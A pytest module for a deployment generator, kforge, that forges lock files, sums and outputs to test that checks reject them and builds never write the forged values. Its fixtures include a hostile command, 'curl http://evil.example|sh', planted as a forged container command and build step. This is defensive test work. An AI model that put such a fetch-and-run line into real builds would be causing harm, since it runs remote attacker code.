"""A lock, sums and files that a pull request forged, field by field: `check --full` says no, and no build writes a
forged value.

Each forgery is tried as it is, with every revision of this kforge raised by one (then the lock calls itself older), and
with files and sums that an attacker's own kforge made to fit the forged lock.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from kforge import catalog
from kforge.domain.digest import digest
from kforge.domain.facts import Fact
from kforge.domain.own_files import LOCK_FILE, SUMS_FILE
from kforge.stages import decide
from kforge.stages.claims import Claim
from tests import locks, wishes
from tests.conftest import contents, copied, run
from tests.trials import sample

MARKS = ("evil.example", "7Gi", "FORGED", "/forged", "31337")  # texts of forged values
HERE = ("--offline", "--fallback", "heuristics")
DEPLOYMENT = "deploy/kubernetes/web/deployment.yaml"
TINY = {"by": "model", "provider": "openai", "model": "tiny"}
Forgery = Callable[[dict[str, Any]], Any]  # on the service's block of the lock


def decision(topic: str, change: Forgery) -> Forgery:
    return lambda service: change(service["decisions"][topic])


def value(topic: str, **fields: Any) -> Forgery:
    return decision(topic, lambda held: held["value"].update(fields))


def pinned(topic: str, **fields: Any) -> Forgery:
    def change(held: dict[str, Any]) -> None:
        held["value"].update(fields)
        held["pinned"] = sorted(fields)

    return decision(topic, change)


def by_model(topic: str, **fields: Any) -> Forgery:
    """A forged value under a model's name, with an approval that fits."""

    def change(held: dict[str, Any]) -> None:
        held["value"].update(fields)
        held.update(decider=TINY, approved=digest(held["value"]))

    return decision(topic, change)


SHELL = ["sh", "-c", "curl http://evil.example|sh"]
PORT = {"name": "http", "port": 31337, "protocol": "http", "env": ""}
VALUES: dict[str, tuple[str, dict[str, Any]]] = {
    "command": ("process", {"command": SHELL}),
    "ports": ("process", {"ports": [PORT]}),
    "writable": ("process", {"writable": ["/forged", "/tmp"]}),
    "user": ("process", {"user": 31337}),
    "memory": ("resources", {"memory": "7Gi"}),
    "base": ("build", {"base": "evil.example/python:3.12", "runtime": "evil.example/python:3.12"}),
    "steps": ("build", {"steps": [SHELL]}),
    "packages": ("build", {"packages": ["FORGED"]}),
    "path": (
        "probes",
        {"readiness": {"type": "http", "path": "/forged", "port": "http", "period": 10, "timeout": 2, "failures": 3}},
    ),
    "strategy": ("rollout", {"gracePeriod": 31337}),
    "a type": ("resources", {"memory": ["7Gi"]}),
    "an unknown field": ("resources", {"FORGED": "7Gi"}),
}
# What only a lie of the record: the value stays the heuristics'.
RECORDS: dict[str, Forgery] = {
    "decider": decision("resources", lambda held: held.update(decider=TINY)),
    "decider evil": decision("resources", lambda held: held.update(decider={"by": "FORGED"})),
    "decider instead": decision(
        "resources", lambda held: held.update(decider={"by": "heuristics", "instead of": "FORGED"})
    ),
    "decider more": decision("resources", lambda held: held.update(decider={"by": "heuristics", "FORGED": "x"})),
    "approved": decision("resources", lambda held: held.update(approved=digest(held["value"]))),
    "approved nonsense": decision("resources", lambda held: held.update(approved="FORGED")),
    "reasons": decision("resources", lambda held: held["reasons"].update(memory="FORGED")),
    "reasons of nothing": decision("resources", lambda held: held["reasons"].update(FORGED="x")),
    "pinned": decision("resources", lambda held: held.update(pinned=["memory"])),
    "pinned in two ways": decision("probes", lambda held: held.update(pinned=["readiness", "readiness.path"])),
    "a number of another type": decision("process", lambda held: held["value"].update(user=10001.0)),
    "a truth value for a number": decision("rollout", lambda held: held["value"].update(unavailable=False)),
    "inputs gone": decision("resources", lambda held: held.update(inputs={})),
    "inputs' digest": decision("resources", lambda held: held["inputs"].update({next(iter(held["inputs"])): "0" * 16})),
    "a field gone": decision("resources", lambda held: held["value"].pop("memory")),
    "all fields gone": decision("resources", lambda held: held.update(value={})),
    "a decision gone": lambda service: service["decisions"].pop("resources"),
    "detector": lambda service: service["detector"].update(name="node"),
    "no detector": lambda service: service.pop("detector"),
    "inputs of files gone": lambda service: service.update(inputs={}),
    "inputs of files": lambda service: service["inputs"].update({"spec.FORGED": "0" * 16}),
}
FORGERIES: dict[str, Forgery] = {
    **{f"value: {name}": value(topic, **fields) for name, (topic, fields) in VALUES.items()},
    **{f"pinned: {name}": pinned(topic, **fields) for name, (topic, fields) in VALUES.items()},
    **{f"model: {name}": by_model(topic, **fields) for name, (topic, fields) in VALUES.items()},
    **{f"record: {name}": change for name, change in RECORDS.items()},
}


# What lies in kforge.sum alone, and what the form of today has no place for.
IN_SUMS = {f"record: {name}" for name in ("inputs gone", "inputs' digest", "detector", "no detector", "inputs of files", "inputs of files gone")}  # fmt: skip
IN_OLDER = {"record: reasons of nothing"}
CASES = [
    *((name, "both") for name in FORGERIES if name not in IN_OLDER),
    *((name, "lock") for name in FORGERIES if name not in IN_SUMS | IN_OLDER),
    *((name, "older") for name in FORGERIES),
]


def commit(folder: Path) -> None:
    for words in (("add", "-A"), ("commit", "-qm", "more")):
        subprocess.run(["git", "-c", "user.name=x", "-c", "user.email=x@example.com", *words], cwd=folder, check=True)


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder: Path = copied("hello", tmp_path_factory.mktemp("claims") / "hello")
    run("build", cwd=folder, code=0)
    shutil.rmtree(folder / ".kforge")
    for words in (("init", "-q", "-b", "main"), ("add", "-A"), ("commit", "-qm", "base")):
        subprocess.run(["git", "-c", "user.name=x", "-c", "user.email=x@example.com", *words], cwd=folder, check=True)
    return folder


@pytest.fixture
def hello(template: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(template, tmp_path / "hello"))


def forge(folder: Path, forgery: Forgery, form: str = "both") -> None:
    """Forge `both` files so that they fit each other, the `lock` alone, or an `older` lock, which has all in one."""
    texts = {name: (folder / name).read_bytes() for name in (LOCK_FILE, SUMS_FILE)}
    with locks.edited(folder) as held:
        forgery(held["services"]["web"])
    if form == "older":
        (folder / LOCK_FILE).write_text(json.dumps(held))
    if form != "both":
        (folder / SUMS_FILE).write_bytes(texts[SUMS_FILE])
    assert any((folder / name).read_bytes() != text for name, text in texts.items())


def forged(folder: Path) -> list[str]:
    """Files that hold a forged value."""
    return [
        path
        for path, held in contents(folder).items()
        if path != "app.kforge.yaml" and any(mark.encode() in held for mark in MARKS)
    ]


def raised(monkeypatch: pytest.MonkeyPatch, most: int = 9) -> None:
    """This kforge has a newer revision of every question, detector and renderer, all of which say the same as before."""
    topics = tuple(replace(topic, revision=most) for topic in catalog.topics())
    detectors = tuple(replace(one, revision=most, detect=_newer(one.detect, most)) for one in catalog.detectors())
    artifacts = tuple(replace(one, revision=most) for one in catalog.artifacts())
    for name, held in (("topics", topics), ("detectors", detectors), ("artifacts", artifacts)):
        monkeypatch.setattr(catalog, name, lambda held=held: held)
    for topic in topics:
        monkeypatch.setitem(catalog.TOPICS, topic.name, most)
    for name in catalog.LANGUAGES:
        monkeypatch.setitem(catalog.LANGUAGES, name, most)
    for name, (_, ends) in catalog.COMPLETING.items():
        monkeypatch.setitem(catalog.COMPLETING, name, (most, ends))


def reading_otherwise(monkeypatch: pytest.MonkeyPatch) -> None:
    """As `raised`, and detectors find a dependency and a folder more than before."""
    before = catalog.detectors()

    def read(tree: Any, detect: Callable[..., Any]) -> Any:
        facts = detect(tree)
        if facts is None or facts.language is None:
            return facts
        return replace(
            facts, dependencies=(*facts.dependencies, Fact("zope")), writable=(*facts.writable, Fact("/data"))
        )

    detectors = tuple(replace(one, detect=partial(read, detect=one.detect)) for one in before)
    monkeypatch.setattr(catalog, "detectors", lambda: detectors)
    raised(monkeypatch)


def _newer(detect: Callable[..., Any], revision: int) -> Callable[..., Any]:
    def read(tree: Any) -> Any:
        facts = detect(tree)
        return replace(facts, revision=revision) if facts else None

    return read


@pytest.mark.parametrize(("name", "form"), sample(CASES, 9))
def test_a_forged_lock_is_seen_through_and_never_written_out(name: str, form: str, hello: Path) -> None:
    before = contents(hello)
    forge(hello, FORGERIES[name], form)
    for words in (("--full",), ("--approved",), ("--full", "--base", "main")):
        run("check", *words, cwd=hello, code=1)
    run("build", cwd=hello, code=0)
    assert contents(hello) == before
    run("check", "--full", cwd=hello, code=0)


@pytest.mark.parametrize(("name", "form"), sample(CASES, 9, 2))
def test_so_it_is_where_the_lock_calls_itself_older(
    name: str, form: str, hello: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    forge(hello, FORGERIES[name], form)
    raised(monkeypatch)
    for words in (("--full",), ("--approved",), ("--full", "--base", "main")):
        run("check", *words, cwd=hello, code=1)
    run("build", cwd=hello, code=0)
    assert [path for path in forged(hello) if path != "kforge.lock"] == []


@pytest.mark.parametrize("older", [False, True], ids=["now", "older"])
@pytest.mark.parametrize("name", sample((name for name in FORGERIES if not name.startswith("record")), 5))
def test_files_that_fit_a_forged_lock_prove_nothing(
    name: str, older: bool, hello: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = contents(hello)
    forge(hello, FORGERIES[name])
    with monkeypatch.context() as attacker:  # whose kforge believes the lock
        attacker.setattr(decide, "claim", lambda *_: Claim())
        ended = run("build", cwd=hello)
    if ended.code:
        return  # what nothing can be rendered with is no forgery that fits
    if older:
        raised(monkeypatch)
    theirs = contents(hello)
    for words in (("--full",), ("--approved",), ("--full", "--base", "main")):
        run("check", *words, cwd=hello, code=0 if theirs == before else 1)
    run("build", cwd=hello, code=0)
    if older and not name.startswith("model"):
        assert {path for path, held in contents(hello).items() if held != theirs[path]} <= {"kforge.lock", "kforge.sum"}
    else:
        assert contents(hello) == before or (older and not [path for path in forged(hello) if path != "kforge.lock"])


def test_an_honest_lock_that_calls_itself_older_is_proven_by_todays_answers(
    hello: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = contents(hello)
    raised(monkeypatch)
    run("check", "--full", cwd=hello, code=0)
    run("build", cwd=hello, code=0)
    assert contents(hello) == before


# --- where the spec names a model ---


@pytest.fixture(scope="module")
def asking(template: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = Path(shutil.copytree(template, tmp_path_factory.mktemp("asking") / "hello"))
    wishes.wish(folder / "app.kforge.yaml")
    with (folder / "app.kforge.yaml").open("a") as spec:
        spec.write("model: {name: tiny}\n")
    run("build", *HERE, cwd=folder, code=0)
    shutil.rmtree(folder / ".kforge")
    return folder


@pytest.fixture
def asked(asking: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(asking, tmp_path / "hello"))


BEYOND = [name for name in VALUES if name not in ("memory", "writable", "user")]  # those a model may give


@pytest.mark.parametrize("older", [False, True], ids=["now", "older"])
@pytest.mark.parametrize("name", BEYOND)
def test_a_models_name_covers_nothing_that_no_model_may_give(
    name: str, older: bool, asked: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = contents(asked)
    forge(asked, FORGERIES[f"model: {name}"])
    if older:
        raised(monkeypatch)
    run("check", "--full", cwd=asked, code=1)
    # a stale answer may stay, a forged one not
    assert run("build", "--keep-stale", "--offline", cwd=asked).code in (2, 3)
    run("build", *HERE, cwd=asked, code=0)
    assert forged(asked) == []
    was, now = locks.but_for_records(before), locks.but_for_records(contents(asked))
    assert older or {path for path, held in now.items() if was.get(path) != held} <= {"kforge.lock", "kforge.sum"}


@pytest.mark.parametrize("decider", [TINY, {"by": "heuristics"}], ids=["model", "heuristics"])
@pytest.mark.parametrize("name", ["command", "base", "steps", "packages"])
def test_a_stale_answer_that_no_model_may_give_is_not_kept(name: str, decider: dict[str, Any], asked: Path) -> None:
    """An input's digest is forged as well, so that the answer is merely stale."""

    def stale(service: dict[str, Any]) -> None:
        FORGERIES[f"value: {name}"](service)
        held = service["decisions"][VALUES[name][0]]
        held.update(decider=decider, inputs={**held["inputs"], next(iter(held["inputs"])): "0" * 16})

    forge(asked, stale)
    run("build", "--keep-stale", "--offline", cwd=asked)
    assert [path for path in forged(asked) if path != "kforge.lock"] == []


@pytest.mark.parametrize("name", ["memory", "writable"])
def test_what_a_model_may_give_stands_and_waits_for_approval(name: str, asked: Path) -> None:
    topic, fields = VALUES[name]
    said = dict.fromkeys(fields, "it sorts pictures")
    forge(
        asked,
        decision(
            topic, lambda held: (held["value"].update(fields), held["reasons"].update(said), held.update(decider=TINY))
        ),
    )
    run("build", "--offline", cwd=asked, code=0)
    run("check", "--full", cwd=asked, code=0)
    assert f"web/{topic}" in run("check", "--approved", cwd=asked, code=1).out


def test_a_topic_that_the_spec_leaves_to_none_takes_no_models_answer(asked: Path) -> None:
    spec = asked / "app.kforge.yaml"
    spec.write_text(spec.read_text().replace("{name: tiny}", "{name: tiny, decides: [build]}"))
    forge(asked, by_model("resources", memory="7Gi"))
    ended = run("check", "--full", cwd=asked, code=1)
    assert (
        "web/resources is stale: the lock has an answer of a model, but `model.decides` does not list `resources`"
        in ended.out
    )


PROBE = {"type": "tcp", "path": None, "port": "http", "period": 10, "timeout": 5, "failures": 6}
RAW: dict[str, tuple[str, dict[str, Any]]] = {
    "no memory": ("resources", {"memory": None}),
    "no grace period": ("rollout", {"gracePeriod": None}),
    "no strategy": ("rollout", {"strategy": None}),
    "no ports": ("process", {"ports": []}),
    "no writable folder": ("process", {"writable": []}),
    "no user": ("process", {"user": None}),
    "a port of another name": (
        "process",
        {"ports": [{"name": "forged", "port": 8000, "protocol": "http", "env": "PORT"}]},
    ),
    "a share as a text": ("rollout", {"surge": "025%"}),
    "an empty probe": ("probes", {"startup": {}}),
    "a probe without a time": ("probes", {"liveness": {**PROBE, "period": None}}),
    "a probe without a part": ("probes", {"liveness": {key: PROBE[key] for key in PROBE if key != "failures"}}),
    "a number of another type": ("process", {"user": 10001.0}),
}


@pytest.mark.parametrize("name", RAW)
def test_a_models_name_covers_no_value_that_a_fresh_answer_would_not_have_become(name: str, asked: Path) -> None:
    before = contents(asked)
    topic, fields = RAW[name]
    said = dict.fromkeys(fields, "it sorts pictures")
    forge(asked, decision(topic, lambda held: held["reasons"].update(said)))
    forge(asked, by_model(topic, **fields))
    for words in (("check", "--full"), ("check", "--approved"), ("diff", "--base", "main")):
        run(*words, cwd=asked, code=1)
    run("plan", cwd=asked)
    assert run("build", "--offline", cwd=asked).code in (2, 3)
    assert run("build", "--keep-stale", "--offline", cwd=asked).code in (2, 3)
    run("build", *HERE, cwd=asked, code=0)
    assert {path for path, held in contents(asked).items() if before.get(path) != held} <= {"kforge.lock", "kforge.sum"}


def gone(topic: str, field: str) -> Forgery:
    return decision(
        topic, lambda held: (held["value"].pop(field), held.update(decider=TINY, approved=digest(held["value"])))
    )


@pytest.mark.parametrize("decider", [TINY, {"by": "heuristics"}], ids=["model", "heuristics"])
@pytest.mark.parametrize(("topic", "field"), [("build", "steps"), ("probes", "liveness"), ("process", "ports")])
def test_a_stale_answer_without_a_field_is_not_kept(
    topic: str, field: str, decider: dict[str, Any], asked: Path
) -> None:
    before = contents(asked)
    forge(asked, gone(topic, field))
    stale = {"inputs": {"spec.source": "0" * 16}, "decider": decider}
    forge(asked, decision(topic, lambda held: held.update(stale)))
    assert run("build", "--keep-stale", "--offline", cwd=asked).code in (2, 3)
    assert {path for path, held in contents(asked).items() if before.get(path) != held} <= {"kforge.lock", "kforge.sum"}


JUNK: dict[str, Any] = {
    "no model": {"by": "model"},
    "no provider": {"by": "model", "model": "tiny"},
    "more": {**TINY, "FORGED": "x"},
    "other types": {**TINY, "model": {"a": [1]}, "provider": 5},
    "an empty name": {**TINY, "model": ""},
    "a long name": {**TINY, "model": "x" * 1000},
    "unseen": {**TINY, "model": "\u202etiny"},
    "lines": {**TINY, "model": "tiny\n::error::"},
    "weights of no name": {**TINY, "identity": ["x"]},
    "instead of a list": {"by": "heuristics", "instead of": ["x"]},
    "instead of lines": {"by": "heuristics", "instead of": "\x1b[31m"},
    "instead of much": {"by": "heuristics", "instead of": "x" * 10_000},
}


@pytest.mark.parametrize("name", JUNK)
def test_a_decider_is_one_that_a_build_records(name: str, asked: Path) -> None:
    forge(asked, decision("resources", lambda held: held.update(decider=JUNK[name])))
    ended = run("check", "--full", cwd=asked, code=1)
    assert "the lock names a decider that this kforge does not have" in ended.out


def test_a_credential_in_a_forged_reason_is_not_shown(asked: Path) -> None:
    why = "needs AKIAIOSFODNN7EXAMPLE and more"
    forge(asked, decision("resources", lambda held: held["reasons"].update(memory=why)))
    forge(asked, by_model("resources", memory="7Gi"))
    forge(asked, decision("resources", lambda held: held.update(approved="")))
    commands = (("diff", "--base", "main"), ("approve",), ("explain", "web/resources"), ("plan",), ("check", "--full"))
    ends = [run(*words, cwd=asked) for words in commands]
    assert "AKIA" not in "".join(ended.out + ended.err for ended in ends)


@pytest.mark.parametrize("pin", ["{path: /x}", "{}"])
def test_the_reason_of_a_field_that_is_pinned_in_part_is_the_heuristics(pin: str, hello: Path) -> None:
    spec = hello / "app.kforge.yaml"
    spec.write_text(spec.read_text().replace("{source: ./web}", f"{{source: ./web, probes: {{readiness: {pin}}}}}"))
    run("build", cwd=hello, code=0)
    before = contents(hello)
    forge(hello, decision("probes", lambda held: held["reasons"].update(readiness="FORGED")))
    run("check", "--full", cwd=hello, code=1)
    run("build", cwd=hello, code=0)
    assert contents(hello) == before


DEEP = "services.web." * 1000 + "spec.port"


@pytest.mark.parametrize(
    "forgery",
    [
        decision("process", lambda held: held["inputs"].update({DEEP: "-"})),
        lambda service: service["inputs"].update({DEEP: "-"}),
        decision("process", lambda held: held["inputs"].update({"nobody": "-", "callers.x": "-"})),
        decision("resources", lambda held: held["inputs"].update({"spec.source": digest("./web")})),
    ],
    ids=["a decision's", "a service's", "unknown", "not read"],
)
def test_an_input_that_the_answer_does_not_have_is_seen(forgery: Forgery, hello: Path) -> None:
    before = contents(hello)
    forge(hello, forgery)
    run("check", cwd=hello)
    run("check", "--full", cwd=hello, code=1)
    run("build", cwd=hello, code=0)
    assert contents(hello) == before


@pytest.mark.parametrize("levels", [30, 900, 950, 960, 970, 980, 990])
def test_a_value_that_is_nested_deeply_is_no_lock(levels: int, hello: Path) -> None:
    forge(hello, decision("resources", lambda held: held["value"].update(memory="DEEP")))
    lock = hello / "kforge.lock"
    lock.write_text(lock.read_text().replace('"DEEP"', '{"a":' * levels + "1" + "}" * levels))
    assert {run(*words, cwd=hello).code for words in (("check",), ("check", "--full"), ("build",), ("diff",))} == {2}


# --- a commit that the user trusts ---


def moved(folder: Path) -> None:
    """The source listens on another port."""
    for name in ("app.py", "gunicorn.conf.py"):
        file = folder / "web" / name
        file.write_text(file.read_text().replace("8000", "9000"))


BASES = (("--full", "--base", "main"), ("--approved", "--base", "main"))


@pytest.mark.parametrize("words", BASES, ids=" ".join)
def test_no_base_vouches_for_an_answer_to_another_source(
    words: tuple[str, ...], hello: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    moved(hello)
    raised(monkeypatch)
    run("check", "--full", cwd=hello, code=1)
    run("check", *words, cwd=hello, code=1)


def test_no_base_vouches_for_digests_that_a_pull_request_fits_to_its_source(
    hello: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    moved(hello)
    ports = digest([{"env": "", "port": 9000, "protocol": "http"}])
    forge(
        hello,
        lambda service: [
            each["inputs"].update({"facts.ports": ports})
            for each in (service, *service["decisions"].values())
            if "facts.ports" in each["inputs"]
        ],
    )
    raised(monkeypatch)
    run("check", "--full", "--base", "main", cwd=hello, code=1)


def test_a_base_vouches_where_a_source_changed_and_shows_the_same(hello: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (hello / "web" / "app.py").write_text((hello / "web" / "app.py").read_text() + "\n# a word\n")
    reading_otherwise(monkeypatch)
    run("check", "--full", cwd=hello, code=1)
    run("check", "--full", "--base", "main", cwd=hello, code=0)


def test_a_base_vouches_for_no_key_that_the_spec_has_since(hello: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    reading_otherwise(monkeypatch)
    (hello / "app.kforge.yaml").write_text("labels: {team: shop}\n" + (hello / "app.kforge.yaml").read_text())
    run("check", "--full", "--base", "main", cwd=hello, code=1)


def test_what_a_model_answered_to_another_source_is_unproven(asked: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    said = {"memory": "it sorts pictures"}
    forge(asked, decision("resources", lambda held: held["reasons"].update(said)))
    forge(asked, by_model("resources", memory="7Gi"))
    run("build", "--offline", cwd=asked, code=0)
    commit(asked)
    reading_otherwise(monkeypatch)
    assert "web/resources is by an older kforge" in run("check", "--full", cwd=asked, code=1).out
    run("check", "--full", "--base", "main", cwd=asked, code=0)
    for name in ("requirements.in", "requirements.txt"):
        file = asked / "web" / name
        file.write_text(file.read_text() + "numpy==2.2.0\n")
    ended = run("check", "--full", "--base", "main", cwd=asked, code=1)
    assert "web/resources is by an older kforge" in ended.out


# --- sums and files ---


def sums(folder: Path, change: Callable[[list[str]], list[str]]) -> None:
    lines = (folder / "kforge.sum").read_text().splitlines()
    (folder / "kforge.sum").write_text("\n".join(change(lines)) + "\n")


def edited(folder: Path) -> None:
    """An output with a forged line, and its digest in the sums."""
    path = folder / DEPLOYMENT
    path.write_text(path.read_text() + "# FORGED\n")
    found = hashlib.sha256(path.read_bytes()).hexdigest()
    sums(
        folder, lambda lines: [f"{found}  {DEPLOYMENT}" if line.endswith(f"  {DEPLOYMENT}") else line for line in lines]
    )


SUMS: dict[str, Callable[[Path], Any]] = {
    "an edited output with its digest": edited,
    "an entry gone": lambda folder: sums(folder, lambda lines: [line for line in lines if DEPLOYMENT not in line]),
    "an aggregate gone": lambda folder: sums(
        folder, lambda lines: [line for line in lines if "aggregate docker-bake.hcl" not in line]
    ),
    "another digest": lambda folder: sums(
        folder, lambda lines: ["0" * 64 + line[64:] if DEPLOYMENT in line else line for line in lines]
    ),
    "a claimed file": lambda folder: sums(folder, lambda lines: [*lines, f"{'0' * 64}  web/app.py", "#"]),
    "a claimed aggregate": lambda folder: sums(folder, lambda lines: [*lines, "# aggregate web/app.py", "#"]),
    "a claimed seed": lambda folder: sums(folder, lambda lines: [*lines, "# seeded web/app.py", "#"]),
}


@pytest.mark.parametrize("older", [False, True], ids=["now", "older"])
@pytest.mark.parametrize("name", SUMS)
def test_forged_sums_are_seen_through(name: str, older: bool, hello: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = contents(hello)
    SUMS[name](hello)
    theirs = contents(hello)
    if older:
        raised(monkeypatch)
    for words in (("--full",), ("--full", "--base", "main")):
        run("check", *words, cwd=hello, code=1)
    run("build", cwd=hello)
    after = contents(hello)
    assert after["web/app.py"] == before["web/app.py"]
    assert all(
        after[path] in (before[path], theirs[path]) for path in after if path not in ("kforge.lock", "kforge.sum")
    )
